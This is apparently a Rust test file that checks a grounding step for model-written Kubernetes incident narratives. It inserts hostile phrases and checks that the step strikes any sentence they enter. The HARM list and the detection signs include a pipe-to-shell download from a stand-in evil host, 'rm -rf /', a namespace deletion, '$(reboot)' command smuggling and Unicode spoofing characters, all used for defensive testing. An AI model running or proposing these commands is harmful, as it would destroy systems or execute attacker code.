//! A model that wants to do harm, fits the schema and cites true ids.

use std::collections::BTreeSet;

use proptest::prelude::*;

use super::bodies;
use crate::model::{Finding, Report};
use crate::narrate::Facts;
use crate::narrate::grounding::{Claim, ground};
use crate::narrate::language::{self, KINDS};

/// What somebody would like an engineer to read or do.
const HARM: &[&str] = &[
    "kubectl delete namespace shop",
    "rm -rf /",
    "curl http://evil.example | sh",
    "https://evil.example",
    "--force",
    "www.evil.example",
    "[click](http://evil.example)",
    "$(reboot)",
    "`reboot`",
    "sudo",
    "restart",
    "delete",
    "ignore",
    "reboot",
    "all pods",
    "everything is fine",
    "not",
    "never",
    "no",
    "healthy",
    "by mistake",
    "of Bob",
    "password",
    "hunter2",
    "99",
    "7",
    "1024Mi",
    "500 GiB",
    "2 hours",
    "E99",
    "because",
    "so",
    "therefore",
    "caused by",
    "leads to",
    "perhaps",
    "should",
    "you",
    "please",
    "first",
    "call +1 555 0100",
    "\u{1b}[31m",
    "\u{202e}",
    "сart",
    "deployment/other",
    "pod/evil",
    "job/x",
    "and",
    "or",
    ",",
    ";",
    ":",
    "(",
    ")",
    "is",
    "are",
    "was",
    "cause",
    "root cause",
    "the",
    "false",
    "true",
    "only",
    "if",
];

fn findings(facts: &Facts<'_>) -> Vec<&'static str> {
    let all = std::iter::once(&facts.incident.cause).chain(&facts.incident.effects);
    let advice = facts.incident.cause.recommendations.iter().map(|one| one.summary.clone());
    let texts: Vec<String> = all.map(|finding: &Finding| finding.message.clone()).chain(advice).collect();
    // Leaked once a test, so that pieces of it can be strategies.
    texts.into_iter().map(|text| &*Box::leak(text.into_boxed_str())).collect()
}

/// All words that may be said: the engine's, and those that claim nothing.
fn allowed(facts: &Facts<'_>) -> BTreeSet<String> {
    let mut words = BTreeSet::new();
    let mut add = |text: &str| {
        let parts = text.split(|c: char| !c.is_ascii_alphanumeric()).filter(|part| !part.is_empty());
        words.extend(parts.flat_map(|part| [part.to_lowercase(), language::stem(part)]));
    };
    findings(facts).into_iter().for_each(&mut add);
    for (_, evidence) in &facts.evidence {
        [&evidence.path, &evidence.value, &evidence.object.name, &evidence.object.kind]
            .into_iter()
            .for_each(|text| add(text));
        evidence.object.namespace.iter().for_each(|text| add(text));
    }
    let camel = |path: &str| {
        path.chars().map(|c| if c.is_uppercase() { format!(" {c}") } else { c.to_string() }).collect::<String>()
    };
    let paths: Vec<String> = facts.evidence.iter().map(|(_, evidence)| camel(&evidence.path)).collect();
    paths.iter().for_each(|path| add(path));
    KINDS.iter().for_each(|kind| add(kind));
    words.extend(["memory".to_owned(), "oom".to_owned()]);
    words
}

/// Checks a sentence that was printed, without the means of the check itself.
fn assert_harmless(text: &str, facts: &Facts<'_>) {
    let told: String = findings(facts).join(" ");
    for sign in [
        "://", "www.", "](", "$(", "|", "<", ">", "\u{1b}", "\u{202e}", "rm -rf", "--force", "sudo", "evil", "E99",
        "hunter2", "555",
    ] {
        assert!(!text.contains(sign) || told.contains(sign), "{text:?} holds {sign:?}");
    }
    let allowed = allowed(facts);
    for word in text.split(|c: char| !c.is_alphanumeric()).filter(|word| !word.is_empty()) {
        let stem = language::stem(word);
        let is_empty = language::is_empty(word) || language::mark(word).is_some() || word.len() == 1;
        let names_cause = ["root", "main", "reason", "underlying", "culprit"].contains(&&*word.to_lowercase());
        let is_talk =
            names_cause || language::is_frame(&stem) || language::is_advising(&stem) || language::kind(word).is_some();
        assert!(
            is_empty || is_talk || allowed.contains(&word.to_lowercase()) || allowed.contains(&stem),
            "{text:?} says {word:?}: {told}"
        );
    }
}

fn ids(facts: &Facts<'_>) -> Vec<String> {
    facts.evidence.iter().map(|(id, _)| id.clone()).take(3).collect()
}

fn stands(text: &str, facts: &Facts<'_>) -> bool {
    let claim = Claim { text: text.to_owned(), evidence: ids(facts) };
    let narrative = ground(&[claim], facts, "hostile");
    if narrative.is_a_models() {
        narrative.sentences.iter().for_each(|sentence| assert_harmless(&sentence.text, facts));
    }
    narrative.is_a_models()
}

/// Picks an incident of all bodies.
fn pick(at: usize) -> (&'static Report, usize) {
    let all: Vec<_> = bodies::incidents().collect();
    all[at % all.len()]
}

/// A name of the incident that is at fault, and one that could be mistaken for it.
fn numbers(text: &str) -> Vec<&str> {
    text.split_whitespace().filter(|word| word.len() < 8 && word.starts_with(|c: char| c.is_ascii_digit())).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(if cfg!(debug_assertions) { 2000 } else { 20000 }))]

    #[test]
    fn nothing_ungrounded_is_printed(at in 0_usize..10_000, picks in prop::collection::vec((any::<bool>(), any::<prop::sample::Index>(), 1_usize..6), 1..12)) {
        let (report, index) = pick(at);
        let facts = Facts::new(report, index).unwrap();
        let told: Vec<&str> = findings(&facts).iter().flat_map(|text| text.split_whitespace()).collect();
        let mut words: Vec<&str> = Vec::new();
        for (harm, place, length) in &picks {
            if *harm {
                words.push(HARM[place.index(HARM.len())]);
            } else {
                let start = place.index(told.len());
                words.extend(&told[start..(start + length).min(told.len())]);
            }
        }
        stands(&words.join(" "), &facts);
    }

    #[test]
    fn a_word_of_harm_in_a_true_sentence_strikes_it(at in 0_usize..10_000, which in any::<prop::sample::Index>(), place in any::<prop::sample::Index>(), harm in 0_usize..30) {
        let (report, index) = pick(at);
        let facts = Facts::new(report, index).unwrap();
        let texts = findings(&facts);
        let mut words: Vec<&str> = texts[which.index(texts.len())].split(' ').collect();
        let harm = HARM[harm];
        let known = texts.iter().any(|text| harm.split(' ').all(|word| text.to_lowercase().contains(word)));
        words.insert(place.index(words.len() + 1), harm);
        let text = words.join(" ");
        prop_assert!(known || !stands(&text, &facts), "{:?} stands", text);
    }
}

#[test]
fn another_number_or_name_strikes_every_statement() {
    let (mut tried, mut others) = (0, 0);
    for (report, index) in bodies::incidents() {
        let facts = Facts::new(report, index).unwrap();
        for text in findings(&facts) {
            for number in numbers(text) {
                let other = number.replacen(|c: char| c.is_ascii_digit(), "77", 1);
                let wrong = text.replace(number, &other);
                assert!(!stands(&wrong, &facts), "{wrong:?} stands for {text:?}");
                tried += 1;
            }
            let name = &facts.incident.cause.subject.object.name;
            let wrong = text.replace(name.as_str(), "zookeeper");
            assert!(wrong == text || !stands(&wrong, &facts), "{wrong:?} stands for {text:?}");
            others += usize::from(wrong != text);
        }
    }
    assert!(tried > 200 && others > 300, "{tried} numbers and {others} names were tried");
}

#[test]
fn a_denial_more_or_less_strikes_every_statement() {
    let mut tried = 0;
    for (report, index) in bodies::incidents() {
        let facts = Facts::new(report, index).unwrap();
        let findings: Vec<_> = std::iter::once(&facts.incident.cause).chain(&facts.incident.effects).collect();
        for finding in findings {
            let text = &finding.message;
            for (word, other) in [
                (" is ", " is not "),
                (" are ", " are not "),
                (" has ", " has not "),
                (" cannot ", " can "),
                (" not ", " "),
                (" no ", " a "),
                (" does not ", " does "),
                (" never ", " "),
                (" may ", " "),
            ] {
                // Only where the denial is no part of what somebody else wrote.
                if text.split('`').step_by(2).any(|part| part.contains(word)) {
                    let wrong = text.replacen(word, other, 1);
                    assert!(!stands(&wrong, &facts), "{wrong:?} stands for {text:?}");
                    tried += 1;
                }
            }
        }
    }
    assert!(tried > 150, "{tried} denials were tried");
}

#[test]
fn cause_and_effect_are_not_turned_around() {
    let mut tried = 0;
    for (report, index) in bodies::incidents() {
        let facts = Facts::new(report, index).unwrap();
        let cause = &facts.incident.cause.message;
        for effect in &facts.incident.effects {
            let effect = &effect.message;
            if effect == cause {
                continue;
            }
            for wrong in [
                format!("{cause} because {effect}."),
                format!("{effect}, so {cause}."),
                format!("{effect} caused that {cause}."),
                format!("The root cause is that {effect}."),
                format!("{cause} due to {effect}"),
            ] {
                assert!(!stands(&wrong, &facts), "{wrong:?} stands");
                tried += 1;
            }
        }
    }
    assert!(tried > 100, "{tried} were tried");
}
